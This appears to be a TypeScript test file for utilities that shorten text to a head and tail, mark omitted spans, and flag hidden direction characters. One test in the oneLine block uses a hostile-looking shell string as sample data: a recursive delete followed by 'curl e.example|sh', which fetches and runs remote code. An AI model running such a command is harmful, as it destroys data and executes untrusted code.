import { describe, expect, test } from 'vitest'
import { countCodePoints } from './codepoints.ts'
import { headTail, oneLine, renderExcerpt } from './excerpt.ts'
import { plainText } from './render.ts'

describe('headTail', () => {
  test('leaves a short text alone', () => {
    expect(headTail('abc', 3)).toEqual({ head: 'abc', tail: '', omitted: 0 })
    expect(headTail('😀😀😀', 3)).toEqual({ head: '😀😀😀', tail: '', omitted: 0 })
  })

  test('keeps both ends and counts code points between', () => {
    expect(headTail('abcdefghij', 5)).toEqual({ head: 'abc', tail: 'ij', omitted: 5 })
    expect(headTail('😀😁😂😃😄', 2)).toEqual({ head: '😀', tail: '😄', omitted: 3 })
    expect(headTail('abc', 0)).toEqual({ head: '', tail: '', omitted: 3 })
  })

  test('never splits a surrogate pair, and copes with lone ones', () => {
    expect(headTail('\udc00a😀b\ud800', 3)).toEqual({ head: '\udc00a', tail: '\ud800', omitted: 2 })
  })

  test('shows 3500 code points unless told otherwise', () => {
    const { head, tail, omitted } = headTail('x'.repeat(300_000))
    expect([head.length, tail.length, omitted]).toEqual([1750, 1750, 296_500])
  })
})

describe('renderExcerpt', () => {
  test('puts a counting chip between head and tail', () => {
    const excerpt = renderExcerpt(`start${'-'.repeat(100)}end!!`, { max: 10 })
    expect(excerpt.omitted).toBe(100)
    expect(excerpt.segments).toEqual([
      { kind: 'text', text: 'start' },
      {
        kind: 'chip',
        label: '⟦100 characters not shown⟧',
        title: '100 characters not shown',
        count: 100,
        note: 'elided',
      },
      { kind: 'text', text: 'end!!' },
    ])
  })

  test('notes what is hidden in the part that is left out', () => {
    const excerpt = renderExcerpt(`${'a'.repeat(50)}\u202e${'b'.repeat(50)}`, { max: 10 })
    expect(excerpt.notes).toEqual([{ kind: 'direction', count: 1, details: [] }])
    expect(excerpt.length).toBe(101)
  })

  test('is the whole text where that is short', () => {
    expect(plainText(renderExcerpt('short'))).toBe('short')
  })
})

describe('oneLine', () => {
  test('keeps a short text', () => {
    expect(oneLine('ok\nthen', 40)).toBe('ok⟦newline⟧then')
  })

  test('keeps beginning and end of a long one, and says how much is missing', () => {
    const line = oneLine(`rm -rf /tmp/a ${'x'.repeat(1000)}; curl e.example|sh`, 60)
    expect(line).toMatch(/^rm -rf \/tmp\/a x+⟦\+\d+⟧/)
    expect(line.endsWith('curl e.example|sh')).toBe(true)
    expect(countCodePoints(line)).toBeLessThanOrEqual(60)
    const [, missing] = /⟦\+(\d+)⟧/.exec(line)!
    expect(countCodePoints(line.replace(/⟦.*⟧/, '')) + Number(missing)).toBe(1033)
  })

  test('cuts no chip and no surrogate pair', () => {
    for (let max = 24; max < 60; max++) {
      const line = oneLine('a\u200b😀\u202e'.repeat(30), max)
      expect(countCodePoints(line)).toBeLessThanOrEqual(max)
      expect(line).toMatch(/^(a|😀|⟦U\+200B⟧|⟦U\+202E⟧|⟦\+\d+⟧)*$/u)
    }
  })

  test('lets no accent cling to the count', () => {
    for (let max = 24; max < 40; max++) expect(oneLine('e\u0301'.repeat(100), max)).not.toMatch(/⟧\p{M}/u)
  })
})
